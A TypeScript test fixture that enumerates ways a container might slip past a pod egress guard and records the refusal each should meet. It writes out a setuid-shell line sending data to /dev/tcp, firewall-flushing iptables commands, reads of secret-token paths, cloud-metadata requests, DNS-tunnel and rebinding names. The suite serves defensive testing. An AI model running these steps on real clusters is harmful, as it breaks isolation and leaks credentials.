import type { Family } from "../../../init-egress-guard/settings.ts";
import { TRUST_PATH } from "../../../controller/inject/trust-mount.ts";
import { anywhere } from "../../netns/case.ts";
import { NODE, NODE_LINK_LOCAL, POD } from "../../netns/lab.ts";
import { SETUID_SHELL } from "../pod-lab-fixture.ts";
import { ALLOWED } from "../pod-lab-internet.ts";
import { REFUSED_ATTEMPTS } from "../refused-attempts.ts";

/**
 * Pods in which an attempt is let, so that a test of it can fail. `unguarded`: confined as ever, but without the guard.
 * `unconfined`: guarded, but root with a runtime's capabilities and NET_ADMIN, without a seccomp profile, allowed to gain
 * privilege. `open`: unconfined and unguarded.
 */
export const CONTROLS = ["unguarded", "unconfined", "open"] as const;
export type Control = (typeof CONTROLS)[number];

/** An attempt to leave the pod, from inside of an ordinary container of it. */
export interface Attempt {
  /** Which of the ways around the router it is: the number of the row in the list of them (k8s-injection.md, 2.5). */
  readonly way: number;
  readonly id: string;
  /** For agent.py. */
  readonly args: Readonly<Record<string, unknown>>;
  /** What it may come to, and nothing else. */
  readonly expected: readonly string[];
  /** A frame to one of these addresses is this attempt's. */
  readonly remote: readonly string[];
  /** Where it is let, and what it comes to there: a frame of it arrives, or this is said. Undefined: the kernel itself refuses it. */
  readonly control: readonly [pod: Control, comesTo: "arrives" | RegExp] | undefined;
}

const REFUSED = ["ECONNREFUSED"];
/** Which policy allows nobody to ask for: it must not be asked for outside either. */
const REFUSED_NAME = "c2VjcmV0.tunnel.example";
/** To a marker, read as the head of a message: not implemented, and nothing of what it said but its first two octets. */
const NO_DNS = `answered LE\u00c1\u0084${"\0".repeat(8)}`;
const FAMILIES: readonly Family[] = ["ipv4", "ipv6"];
const LOOPBACK = { ipv4: "127.0.0.1", ipv6: "::1" } as const;

const rows: Attempt[] = [];

/** By which a packet with its content is known outside. */
function markerOf(id: string): string {
  return `LEAK ${id}.`;
}

/** To an address of its own, if it names none. */
function add(
  way: number,
  name: string,
  args: Readonly<Record<string, unknown>>,
  expected: readonly string[],
  control: Attempt["control"],
  family: Family = "ipv4",
): void {
  const id = `${way} ${name}`;
  const to = typeof args["to"] === "string" ? args["to"] : anywhere(family);
  const own = args["remote"] ?? [to.replace(/^::ffff:(?=\d)|%.*$/g, "")];
  rows.push({
    way,
    id,
    args: { to, ...args, marker: markerOf(id) },
    expected,
    remote: own as readonly string[],
    control,
  });
}

const UNGUARDED = ["unguarded", "arrives"] as const;

for (const family of FAMILIES) {
  const denied = ["EPERM"];
  const plain: readonly (readonly [way: number, name: string, args: object, expected: readonly string[]])[] = [
    [1, "TCP", { kind: "tcp", port: 9_999 }, REFUSED],
    [1, "UDP", { kind: "udp", port: 9_999 }, denied],
    [10, "QUIC", { kind: "udp", port: 443 }, denied],
    // Led to the router, which answers itself.
    [11, "DNS over UDP", { kind: "dns", over: "udp", port: 53, name: REFUSED_NAME }, ["NXDOMAIN 0"]],
    [11, "DNS over TCP", { kind: "dns", over: "tcp", port: 53, name: REFUSED_NAME }, ["NXDOMAIN 0"]],
    [11, "what is no DNS, over UDP", { kind: "udp", port: 53 }, [NO_DNS]],
    [11, "what is no DNS, over TCP", { kind: "plain", port: 53 }, ["closed"]],
    [12, "HTTPS past the proxy", { kind: "tls", port: 443, name: "other.example" }, ["TLSV1_ALERT_ACCESS_DENIED"]],
    [12, "TLS that names nobody", { kind: "tls", port: 443 }, ["TLSV1_UNRECOGNIZED_NAME"]],
    [12, "what is no TLS", { kind: "plain", port: 443 }, ["closed"]],
    [12, "HTTP past the proxy", { kind: "http", port: 80, host: "other.example" }, ["403 host_not_allowed"]],
    [12, "HTTP to an address", { kind: "http", port: 80, host: "198.51.100.7" }, ["403 host_not_allowed"]],
    [12, "DNS over TLS", { kind: "tcp", port: 853 }, REFUSED],
    [38, "data that is still unsent at the close", { kind: "tcp", port: 9_999, fastopen: true }, ["closed"]],
  ];
  for (const [way, name, args, expected] of plain) {
    add(way, `${family}: ${name}`, { ...args }, expected, UNGUARDED, family);
    if (way < 10) add(3, `${family}: ${name} by another UID`, { ...args }, expected, UNGUARDED, family);
  }
  for (const [kind, expected] of [
    ["tcp", REFUSED],
    ["udp", denied],
  ] as const) {
    const args = { kind, to: LOOPBACK[family], port: 9_999, device: "eth0" };
    add(14, `${family}: ${kind} to loopback by way of eth0`, args, expected, UNGUARDED);
  }
  const metadata = family === "ipv4" ? "169.254.169.254" : "fd00:ec2::254";
  add(24, `${family}: metadata port 9999`, { kind: "tcp", to: metadata, port: 9_999 }, REFUSED, UNGUARDED);
  const asked = { kind: "http", to: metadata, port: 80, host: family === "ipv4" ? metadata : `[${metadata}]` };
  add(24, `${family}: metadata port 80`, asked, ["403 host_not_allowed"], UNGUARDED);
  for (const to of [LOOPBACK[family], POD[family][0]]) {
    add(24, `${family}: the admin port on ${to}`, { kind: "tcp", to, port: 18_090, remote: [] }, REFUSED, undefined);
  }
  const marked = { kind: "tcp", port: 9_999, mark: 7 };
  add(15, `${family}: a mark`, marked, ["EPERM"], ["open", "arrives"], family);
  const transparent = { kind: "tcp", port: 9_999, transparent: true };
  add(15, `${family}: a transparent socket`, transparent, ["EPERM"], ["open", "arrives"], family);
  add(16, `${family}: MPTCP`, { kind: "tcp", port: 9_999, mptcp: true }, ["EPERM"], ["open", "arrives"], family);
  add(9, `${family}: ping`, { kind: "ping" }, ["EPERM"], ["open", "arrives"], family);
  add(
    22,
    `${family}: a neighbour's relay, TCP`,
    { kind: "by relay", way: "tcp", port: 9_999 },
    REFUSED,
    UNGUARDED,
    family,
  );
  add(
    22,
    `${family}: a neighbour's relay, UDP`,
    { kind: "by relay", way: "udp", port: 9_999 },
    denied,
    UNGUARDED,
    family,
  );
  const squatted = family === "ipv4" ? "127.0.0.2" : "fd77:5::1";
  for (const port of [18_080, 18_084, 18_443, 18_053]) {
    const args = { kind: "squat", to: squatted, port, remote: [] };
    add(23, `${family}: in the router's place, port ${port}`, args, ["timeout"], ["unguarded", /^deceived$/]);
  }
}

add(1, "link-local TCP", { kind: "tcp", to: `${NODE_LINK_LOCAL}%eth0`, port: 9_999 }, REFUSED, UNGUARDED);
for (const [args, expected] of [
  [{ kind: "tcp", port: 9_999 }, REFUSED],
  [{ kind: "tls", port: 443, name: "other.example" }, ["TLSV1_ALERT_ACCESS_DENIED"]],
  [{ kind: "dns", over: "tcp", port: 53, name: REFUSED_NAME }, ["NXDOMAIN 0"]],
] as const) {
  add(2, `mapped TCP ${args.port}`, { ...args, to: `::ffff:${anywhere("ipv4")}` }, expected, UNGUARDED);
}

// The shell runs as the router if its bit counts; -p keeps it from giving that up.
const shellTo = anywhere("ipv4");
const setuidFile = "a set-user-ID file of the router's UID";
const shell = [SETUID_SHELL, "-p", "-c", `echo "$0" > /dev/tcp/${shellTo}/9999`, "{marker}"];
const shellSays = `1: ${markerOf(`4 ${setuidFile}`)}: line 1: /dev/tcp/${shellTo}/9999: Connection refused`;
add(4, setuidFile, { kind: "program", to: shellTo, argv: shell }, [shellSays], ["unconfined", "arrives"]);
for (const way of ["setuid", "setresuid", "setfsuid"]) {
  add(5, way, { kind: "as router", way, port: 9_999 }, ["EPERM"], ["unconfined", "arrives"]);
}
add(5, "setgid", { kind: "as router", way: "setgid", port: 9_999 }, ["EPERM"], ["unconfined", /^ECONNREFUSED$/]);

add(7, "a frame by hand", { kind: "packet", from: POD.ipv4[0], port: 9_999 }, ["EPERM"], ["unconfined", "arrives"]);
add(8, "a datagram by hand", { kind: "raw", from: POD.ipv4[0], port: 9_999 }, ["EPERM"], ["open", "arrives"]);
add(
  8,
  "another's datagram by hand",
  { kind: "raw", from: "198.51.100.7", port: 9_999 },
  ["EPERM"],
  ["open", "arrives"],
);

const adopt = { kind: "adopt", url: `https://${ALLOWED.host}/ports`, otherwise: 40_001, wait: 0.1, remote: [] };
for (const [port, expected] of [
  // To the router, to which it is no question.
  [53, `told: ${NO_DNS}`],
  [9_999, "told: EPERM"],
] as const) {
  add(
    13,
    `the router's flows, to its resolver's port ${port}`,
    { ...adopt, to: NODE.ipv4, port },
    [expected],
    UNGUARDED,
  );
}

add(18, "a user namespace as the router", { kind: "by namespace", port: 9_999 }, ["EPERM"], ["open", "arrives"]);
add(21, "abstract sockets of the router", { kind: "abstract", remote: [] }, ["none"], undefined);

const PROXIED: readonly (readonly [way: number, target: string, expected: string])[] = [
  [11, "c2VjcmV0.tunnel.example:443", "403 host_not_allowed"],
  [12, "dns.google:443", "403 host_not_allowed"],
  [24, "127.0.0.1:18090", "403 host_not_allowed"],
  [24, "[::1]:18090", "403 host_not_allowed"],
  [24, "0.0.0.0:18090", "403 host_not_allowed"],
  [24, "[::ffff:127.0.0.1]:18090", "403 host_not_allowed"],
  [24, "2130706433:18090", "400 malformed_request"],
  [24, "localhost:18090", "403 host_not_allowed"],
  [24, `${POD.ipv4[0]}:18090`, "403 host_not_allowed"],
  [24, `[${POD.ipv6[0]}]:18090`, "403 host_not_allowed"],
  [24, `${NODE.ipv4}:9999`, "403 host_not_allowed"],
  [24, "10.96.0.1:443", "403 host_not_allowed"],
  [24, "169.254.169.254:80", "403 host_not_allowed"],
  [24, "[fd00:ec2::254]:80", "403 host_not_allowed"],
  ...["loopback", "metadata", "pod", "node", "mapped", "nat64", "alias"].map(
    (name) => [25, `${name}.rebind.example:443`, "403 address_not_allowed"] as const,
  ),
  [25, "loopback.rebind.example:18084", "403 address_not_allowed"],
  [25, "pod.rebind.example:18090", "403 address_not_allowed"],
];
for (const [way, target, expected] of PROXIED) {
  const request = `CONNECT ${target} HTTP/1.1\r\nHost: ${target}\r\n\r\n`;
  add(way, `CONNECT ${target}`, { kind: "proxied", request, remote: [] }, [expected], undefined);
}
for (const [way, host, expected] of [
  [24, "169.254.169.254", "403 host_not_allowed"],
  [25, "metadata.rebind.example", "403 address_not_allowed"],
  [25, "node.rebind.example", "403 address_not_allowed"],
] as const) {
  const request = `GET http://${host}/latest/meta-data/ HTTP/1.1\r\nHost: ${host}\r\nConnection: close\r\n\r\n`;
  add(way, `GET of ${host}`, { kind: "proxied", request, remote: [] }, [expected], undefined);
}

const SETTINGS = ["router.yaml", "policy", "trust", "podinfo"].map((name) => `/etc/sluice/${name}`);
const ROUTERS = [...SETTINGS, "/run/secrets/sluice", "/run/sluice", "/var/run", "/var/lib/sluice", "/var/log/sluice"];
add(36, "the router's files", { kind: "look", paths: ROUTERS, remote: [] }, ["none"], undefined);
const touched = { kind: "program", argv: ["/usr/bin/touch", `${TRUST_PATH}/mine`], remote: [] };
const untouched = `1: /usr/bin/touch: cannot touch '${TRUST_PATH}/mine': Read-only file system`;
add(36, "what the router gives it to trust, to write", touched, [untouched], undefined);
const TOKENS = ["/var/run/secrets", "/run/secrets"];
add(36, "a token for the API server", { kind: "look", paths: TOKENS, remote: [] }, ["none"], undefined);
add(37, "other containers' processes", { kind: "processes", remote: [] }, ["/usr/bin/python3"], undefined);

/** Which way around the router a refusal of the seccomp profiles closes. */
const BY_REFUSAL: Readonly<Record<string, number>> = {
  netlink: 6,
  "packet-sockets": 7,
  "raw-sockets": 8,
  vsock: 16,
  alg: 16,
  mptcp: 16,
  "other-sockets": 16,
  "io-uring": 17,
  namespaces: 18,
  clone3: 18,
  "other-processes": 19,
  "foreign-abi": 39,
};
// What a machine without our profile lets pass, whatever else it lacks; of the rest seccomp.test.ts has the controls.
const LET: ReadonlySet<string> = new Set([
  "socket AF_PACKET raw",
  "socket AF_PACKET cooked",
  "socket MPTCP",
  "socket raw TCP",
  "socket netlink netfilter",
  "io_uring_setup",
  "ptrace TRACEME",
  "clone: a new user namespace",
  "unshare: a new user namespace",
  "i386: getpid by int 0x80",
]);
for (const { of, name, nr, args, forks, expected } of REFUSED_ATTEMPTS) {
  const way = BY_REFUSAL[of];
  if (way === undefined) continue;
  const control = LET.has(name) ? (["open", /^0$/] as const) : undefined;
  add(way, name, { kind: "syscall", nr, args, forks, remote: [] }, expected, control);
}

const ROUTE = ["/usr/sbin/ip", "rule", "add", "pref", "1", "lookup", "local"];
const NO_ROUTE = "2: RTNETLINK answers: Operation not permitted";
add(15, "a policy route", { kind: "program", argv: ROUTE, remote: [] }, [NO_ROUTE], ["unconfined", /^0: /]);
// Last, since in the control they take the guard away.
for (const tool of ["iptables-nft", "ip6tables-nft"]) {
  for (const rest of [["-P", "OUTPUT", "ACCEPT"], ["-F"]]) {
    const args = { kind: "program", argv: [`/usr/sbin/${tool}`, ...rest], remote: [] };
    const refused = `1: ${tool.replace("-nft", "")}: Failed to initialize nft: Operation not permitted`;
    add(6, `${tool} ${rest.join(" ")}`, args, [refused], ["unconfined", /^0: $/]);
  }
}
for (const family of FAMILIES) {
  add(
    6,
    `${family}: TCP behind the flushed guard`,
    { kind: "tcp", port: 9_999 },
    REFUSED,
    ["unconfined", "arrives"],
    family,
  );
}

/** All of them, in the order in which they are made. */
export const ATTEMPTS: readonly Attempt[] = rows;

/** Those of `UID 4242`, another container of the pod, which then is the neighbour. */
export function byNeighbour({ way }: Attempt): boolean {
  return way === 3;
}
